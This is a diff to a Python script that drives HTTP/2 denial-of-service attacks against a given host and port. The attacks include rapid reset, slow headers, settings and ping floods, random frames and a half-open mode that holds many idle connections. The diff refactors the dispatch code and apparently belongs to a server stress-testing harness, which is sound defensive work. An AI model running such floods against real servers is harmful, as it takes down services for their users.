@@ -3,6 +3,7 @@
 Frames are written by hand (RFC 9113), since a library would not write what is not allowed.
 """
 
+import contextlib
 import os
 import random
 import socket
@@ -131,17 +132,15 @@ def random_frames() -> Iterator[bytes]:
         yield frame(kind, flags, stream, os.urandom(random.randrange(200)))
 
 
-def half_open() -> Iterator[bytes]:
-    raise NotImplementedError  # nothing is sent at all: see `main`
-
-
-KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
+_PIECES: dict[str, Callable[[], Iterator[bytes]]] = {
     attack.__name__: attack
     for attack in (
         *(rapid_reset, slow_headers, huge_metadata, endless_headers, open_streams),
-        *(settings_flood, ping_flood, random_bytes, random_frames, half_open),
+        *(settings_flood, ping_flood, random_bytes, random_frames),
     )
 }
+_SILENT = "half_open"  # connections on which nothing is ever sent
+KINDS = (*_PIECES, _SILENT)
 
 
 class _Attacker:
@@ -155,7 +154,7 @@ class _Attacker:
     def step(self) -> None:
         try:
             if self._socket is None:
-                self._socket, self._pieces = _opened(self._address), KINDS[self._kind]()
+                self._socket, self._pieces = _opened(self._address), _PIECES[self._kind]()
             _send(self._socket, next(self._pieces))
         except (OSError, StopIteration):
             if self._socket is not None:
@@ -163,20 +162,29 @@ class _Attacker:
             self._socket = None
 
 
+def _attack(address: tuple[str, int], kind: str, connections: int, end: float) -> None:
+    attackers = [_Attacker(address, kind) for _ in range(connections)]
+    while time.monotonic() < end:
+        for attacker in attackers:
+            attacker.step()
+
+
+def _hold_open(address: tuple[str, int], connections: int, end: float) -> None:
+    with contextlib.ExitStack() as held:
+        for _ in range(connections):
+            held.enter_context(socket.create_connection(address, timeout=5))
+        time.sleep(max(0.0, end - time.monotonic()))
+
+
 def main() -> int:
     kind, at, seconds, connections = sys.argv[1:]
     host, _, port = at.rpartition(":")
     address, end = (host, int(port)), time.monotonic() + float(seconds)
     os.nice(10)  # an attacker is elsewhere: it must not win by taking the processor
-    if kind == "half_open":
-        count = int(connections) * _HALF_OPEN
-        held = [socket.create_connection(address, timeout=5) for _ in range(count)]
-        time.sleep(max(0.0, end - time.monotonic()))
-        return len(held) * 0
-    attackers = [_Attacker(address, kind) for _ in range(int(connections))]
-    while time.monotonic() < end:
-        for attacker in attackers:
-            attacker.step()
+    if kind == _SILENT:
+        _hold_open(address, int(connections) * _HALF_OPEN, end)
+    else:
+        _attack(address, kind, int(connections), end)
     return 0
 
 
